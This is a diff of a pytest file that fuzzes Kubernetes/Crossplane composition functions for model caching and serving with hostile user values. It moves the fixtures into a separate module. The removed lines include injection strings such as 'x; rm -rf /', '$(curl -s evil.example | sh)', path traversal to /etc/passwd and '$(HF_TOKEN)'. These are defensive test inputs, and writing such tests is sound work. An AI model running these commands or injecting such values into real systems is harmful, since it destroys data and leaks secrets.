@@ -10,268 +10,36 @@ XRD's schema and CEL rules (`validate_xr`), or by the API server's object-name r
 - every path a container sees stays under /mnt/models.
 
 The figures (tried / rejected / inert) are printed by `-s` and recorded in docs/reliability.md.
+The values, the functions' worlds and the table of fields are in hostile_world.py.
 """
 
 import copy
 import posixpath
 import re
 from collections import Counter
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
-from compose_inference_cluster.fn import run_function as cluster_fn
-from compose_model_cache.fn import CLUSTERS as CACHE_CLUSTERS
-from compose_model_cache.fn import run_function as cache_fn
-from compose_model_deployment.fn import CACHE as DEPLOYMENT_CACHE
-from compose_model_deployment.fn import CLUSTERS as DEPLOYMENT_CLUSTERS
-from compose_model_deployment.fn import REPLICAS as DEPLOYMENT_REPLICAS
-from compose_model_deployment.fn import run_function as deployment_fn
 from compose_model_replica.core import WORKLOAD
-from compose_model_replica.fn import CACHE as REPLICA_CACHE
-from compose_model_replica.fn import CLUSTER as REPLICA_CLUSTER
-from compose_model_replica.fn import run_function as replica_fn
 from crossplane.function.proto.v1 import run_function_pb2 as fnv1
-from modelfleet_contracts.edge.runner import SafeRunner
+from hostile_world import (
+    HOSTILE,
+    RUNNERS,
+    TARGETS,
+    replica_xr,
+    required_for,
+)
 from modelfleet_contracts.mounts import MODEL_MOUNT_PATH
 from modelfleet_devtools.fuzz import crashed
 from modelfleet_devtools.requests import desired_resources, desired_status, run_function_request
 from modelfleet_devtools.validation import validate_xr
-from modelfleet_devtools.world import H100, inference_cluster
-
-HOSTILE = {
-    "semicolon": "x; rm -rf /",
-    "command substitution": "$(curl -s evil.example | sh)",
-    "backticks": "`id`",
-    "newline": "main\nrm -rf /",
-    "flag": "--help",
-    "flag with value": "--output=/etc/passwd",
-    "path traversal": "../../etc/passwd",
-    "very long": "a" * 5000,
-    "unicode look-alike": "qwen\u2215qwen-\u0430dmin",  # division slash, Cyrillic a
-    "NUL": "model\x00.bin",
-    "glob": "*",
-    "kubernetes variable": "$(HF_TOKEN)",
-}
 
 DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
 DNS_SUBDOMAIN = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$")
 # `--flag=VALUE`: a fixed flag the function chose, then the user's value, whole.
 FIXED_FLAG = re.compile(r"^--[a-z][a-z-]*=")
 SHELLS = {"sh", "/bin/sh", "bash", "/bin/bash"}
-
-# -- the four functions, each with the world it needs ------------------------------------
-
-RUNNERS = {
-    "compose-inference-cluster": SafeRunner(cluster_fn, "compose-inference-cluster"),
-    "compose-model-cache": SafeRunner(cache_fn, "compose-model-cache"),
-    "compose-model-deployment": SafeRunner(deployment_fn, "compose-model-deployment"),
-    "compose-model-replica": SafeRunner(replica_fn, "compose-model-replica"),
-}
-
-
-def _xr(kind: str, spec: dict[str, Any], namespaced: bool = True) -> dict[str, Any]:
-    metadata = {"name": "kimi-k2", "namespace": "ml-team"} if namespaced else {"name": "gke-us"}
-    return {
-        "apiVersion": "modelfleet.io/v1alpha1",
-        "kind": kind,
-        "metadata": metadata,
-        "spec": spec,
-    }
-
-
-CLUSTER_XR = _xr(
-    "InferenceCluster",
-    {
-        "connection": {
-            "kubeconfigSecretRef": {"namespace": "crossplane-system", "name": "kc", "key": "k"}
-        },
-        "workloadNamespace": "modelfleet",
-        "storage": {
-            "managed": {"provisioner": "NFS", "nfs": {"server": "10.0.0.2", "share": "/x"}}
-        },
-        "nodePools": [{k: v for k, v in H100.items()}],
-    },
-    namespaced=False,
-)
-HF_CACHE_XR = _xr(
-    "ModelCache",
-    {
-        "source": "HuggingFace",
-        "huggingFace": {
-            "repo": "Qwen/Qwen3-0.6B",
-            "revision": "main",
-            "include": ["*.safetensors"],
-            "exclude": ["original/*"],
-            "tokenSecretRef": {"name": "hf", "key": "HF_TOKEN"},
-        },
-        "sizeGiB": 10,
-        "storage": {"storageClassName": "fast-rwx"},
-        "hydration": {"image": "ghcr.io/modelfleet/model-hydrator:0.1.0"},
-    },
-)
-S3_CACHE_XR = _xr(
-    "ModelCache",
-    {
-        "source": "S3",
-        "s3": {
-            "uri": "s3://bucket/prefix/",
-            "endpoint": "https://minio.example:9000",
-            "region": "us-east-1",
-            "credentialsSecretRef": {"name": "s3-creds"},
-        },
-        "sizeGiB": 10,
-    },
-)
-BYO_CACHE_XR = _xr(
-    "ModelCache",
-    {
-        "source": "HuggingFace",
-        "huggingFace": {"repo": "Qwen/Qwen3-0.6B"},
-        "storage": {"existingClaimName": "shared-models"},
-    },
-)
-ENGINE = {
-    "framework": "Custom",
-    "image": "vllm/vllm-openai:v0.11.0",
-    "command": ["python3", "-m", "server"],
-    "args": ["--port=8000"],
-    "env": [{"name": "MODEL_FLAG", "value": "on"}],
-    "port": 8000,
-    "worker": {"command": ["python3", "-m", "worker"], "args": ["--rank=1"]},
-}
-DEPLOYMENT_XR = _xr(
-    "ModelDeployment",
-    {"replicas": 1, "modelCacheRef": {"name": "kimi-k2"}, "engine": copy.deepcopy(ENGINE)},
-)
-
-
-def _replica_xr(nodes: int, framework: str) -> dict[str, Any]:
-    engine = copy.deepcopy(ENGINE)
-    if framework == "vLLM":
-        engine = {"framework": "vLLM", "image": ENGINE["image"], "args": ["--max-model-len=8192"]}
-        engine["env"] = copy.deepcopy(ENGINE["env"])
-    return _xr(
-        "ModelReplica",
-        {
-            "clusterName": "gke-us",
-            "replicas": 1,
-            "nodes": nodes,
-            "gpusPerNode": 8,
-            "nodePool": "h100",
-            "nodeSelector": dict(H100["nodeSelector"]),
-            "tolerations": copy.deepcopy(H100["tolerations"]),
-            "modelCacheRef": {"name": "kimi-k2"},
-            "engine": engine,
-        },
-    )
-
-
-def _ready_cache(path: str = "abc123def456") -> dict[str, Any]:
-    row = {
-        "name": "gke-us",
-        "phase": "Ready",
-        "claimName": "modelcache-ml-team-kimi-k2-1a2b3",
-        "path": path,
-        "fingerprint": "abc123def456",
-    }
-    cache = copy.deepcopy(HF_CACHE_XR)
-    cache["status"] = {"clusters": [row], "summary": {"ready": "1/1"}}
-    return cache
-
-
-def _required(function: str, cache_path: str | None = None) -> dict[str, list[dict[str, Any]]]:
-    cluster = inference_cluster("gke-us")
-    return {
-        "compose-inference-cluster": {},
-        "compose-model-cache": {CACHE_CLUSTERS: [cluster]},
-        "compose-model-deployment": {
-            DEPLOYMENT_CLUSTERS: [cluster],
-            DEPLOYMENT_REPLICAS: [],
-            DEPLOYMENT_CACHE: [_ready_cache()],
-        },
-        "compose-model-replica": {
-            REPLICA_CLUSTER: [cluster],
-            REPLICA_CACHE: [_ready_cache(cache_path or "abc123def456")],
-        },
-    }[function]
-
-
-# -- every user string that reaches a container or a path --------------------------------
-
-Setter = Callable[[dict[str, Any], str], None]
-IC, MC, MD, MR = (
-    "compose-inference-cluster",
-    "compose-model-cache",
-    "compose-model-deployment",
-    "compose-model-replica",
-)
-POOL_LABEL = "cloud.google.com/gke-nodepool"
-REPLICA_CUSTOM, REPLICA_VLLM = _replica_xr(1, "Custom"), _replica_xr(1, "vLLM")
-GANG_CUSTOM, GANG_VLLM = _replica_xr(2, "Custom"), _replica_xr(2, "vLLM")
-
-
-def at(path: str, *tail: str) -> Setter:
-    """Set the value at a dotted path (numbers index lists); `tail` holds keys with dots."""
-    steps: list[Any] = [int(p) if p.isdigit() else p for p in path.split(".")] + list(tail)
-
-    def put(xr: dict[str, Any], value: str) -> None:
-        node = xr
-        for step in steps[:-1]:
-            node = node[step]
-        node[steps[-1]] = value
-
-    return put
-
-
-# (field as a user writes it, function, base XR, where the value goes)
-TARGETS: list[tuple[str, str, dict[str, Any], Setter]] = [
-    ("huggingFace.repo", MC, HF_CACHE_XR, at("spec.huggingFace.repo")),
-    ("huggingFace.revision", MC, HF_CACHE_XR, at("spec.huggingFace.revision")),
-    ("huggingFace.include[]", MC, HF_CACHE_XR, at("spec.huggingFace.include.0")),
-    ("huggingFace.exclude[]", MC, HF_CACHE_XR, at("spec.huggingFace.exclude.0")),
-    ("tokenSecretRef.name", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.name")),
-    ("tokenSecretRef.key", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.key")),
-    ("s3.uri", MC, S3_CACHE_XR, at("spec.s3.uri")),
-    ("s3.endpoint", MC, S3_CACHE_XR, at("spec.s3.endpoint")),
-    ("s3.region", MC, S3_CACHE_XR, at("spec.s3.region")),
-    ("s3.credentialsSecretRef.name", MC, S3_CACHE_XR, at("spec.s3.credentialsSecretRef.name")),
-    ("storage.storageClassName", MC, HF_CACHE_XR, at("spec.storage.storageClassName")),
-    ("storage.existingClaimName", MC, BYO_CACHE_XR, at("spec.storage.existingClaimName")),
-    ("hydration.image", MC, HF_CACHE_XR, at("spec.hydration.image")),
-    ("ModelCache metadata.name", MC, HF_CACHE_XR, at("metadata.name")),
-    ("ModelCache metadata.namespace", MC, HF_CACHE_XR, at("metadata.namespace")),
-    ("ModelCache name (shared claim)", MC, BYO_CACHE_XR, at("metadata.name")),
-    ("engine.image", MR, REPLICA_CUSTOM, at("spec.engine.image")),
-    ("engine.command[]", MR, REPLICA_CUSTOM, at("spec.engine.command.2")),
-    ("engine.args[] (Custom)", MR, REPLICA_CUSTOM, at("spec.engine.args.0")),
-    ("engine.args[] (vLLM)", MR, REPLICA_VLLM, at("spec.engine.args.0")),
-    ("engine.args[] (vLLM gang leader)", MR, GANG_VLLM, at("spec.engine.args.0")),
-    ("engine.worker.args[]", MR, GANG_CUSTOM, at("spec.engine.worker.args.0")),
-    ("engine.env[].name", MR, REPLICA_CUSTOM, at("spec.engine.env.0.name")),
-    ("engine.env[].value", MR, GANG_VLLM, at("spec.engine.env.0.value")),
-    ("engine.port", MR, REPLICA_VLLM, at("spec.engine.port")),
-    ("ModelReplica nodePool", MR, GANG_VLLM, at("spec.nodePool")),
-    (
-        "ModelReplica nodeSelector value",
-        MR,
-        REPLICA_VLLM,
-        at("spec.nodeSelector", "cloud.google.com/gke-nodepool"),
-    ),
-    ("ModelReplica metadata.name", MR, GANG_VLLM, at("metadata.name")),
-    ("ModelReplica metadata.namespace", MR, REPLICA_VLLM, at("metadata.namespace")),
-    ("ModelDeployment engine.args[]", MD, DEPLOYMENT_XR, at("spec.engine.args.0")),
-    ("ModelDeployment modelCacheRef.name", MD, DEPLOYMENT_XR, at("spec.modelCacheRef.name")),
-    ("ModelDeployment metadata.name", MD, DEPLOYMENT_XR, at("metadata.name")),
-    ("ModelDeployment metadata.namespace", MD, DEPLOYMENT_XR, at("metadata.namespace")),
-    ("InferenceCluster metadata.name", IC, CLUSTER_XR, at("metadata.name")),
-    ("workloadNamespace", IC, CLUSTER_XR, at("spec.workloadNamespace")),
-    ("nodePools[].name", IC, CLUSTER_XR, at("spec.nodePools.0.name")),
-    ("kubeconfigSecretRef.name", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.name")),
-    ("kubeconfigSecretRef.key", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.key")),
-    ("storage.managed.nfs.server", IC, CLUSTER_XR, at("spec.storage.managed.nfs.server")),
-    ("storage.managed.nfs.share", IC, CLUSTER_XR, at("spec.storage.managed.nfs.share")),
-]
 
 TALLY: Counter[str] = Counter()
 
@@ -397,7 +165,7 @@ def baseline(function: str, base: dict[str, Any]) -> set[str]:
     """What `function` puts in containers for the unmodified `base` (which must be valid)."""
     if id(base) not in _BASELINES:
         assert not validate_xr(base), f"the base {base['kind']} must be valid"
-        rsp = RUNNERS[function].run(run_function_request(base, required=_required(function)))
+        rsp = RUNNERS[function].run(run_function_request(base, required=required_for(function)))
         assert not crashed(rsp) and desired_resources(rsp)
         _BASELINES[id(base)] = _container_strings(rsp)
     return _BASELINES[id(base)]
@@ -409,7 +177,7 @@ def test_hostile_value_is_rejected_or_inert(field, function, base, put, hostile)
     xr = copy.deepcopy(base)
     put(xr, hostile)
     TALLY["tried"] += 1
-    rsp = RUNNERS[function].run(run_function_request(xr, required=_required(function)))
+    rsp = RUNNERS[function].run(run_function_request(xr, required=required_for(function)))
     assert not crashed(rsp), f"{function} crashed on {field}={hostile!r}"
     if validate_xr(xr):
         TALLY["rejected by the XRD"] += 1
@@ -427,10 +195,10 @@ def test_a_tampered_cache_path_never_points_a_replica_outside_the_mount(label):
     """The cache's status path is written by compose-model-cache, but anyone allowed to
     write that status could put anything there: the replica must not follow it out."""
     hostile = HOSTILE[label]
-    xr = _replica_xr(1, "vLLM")
+    xr = replica_xr(1, "vLLM")
     TALLY["tried"] += 1
     rsp = RUNNERS["compose-model-replica"].run(
-        run_function_request(xr, required=_required("compose-model-replica", hostile))
+        run_function_request(xr, required=required_for("compose-model-replica", hostile))
     )
     assert not crashed(rsp)
     assert inert_problems(rsp, hostile) == []
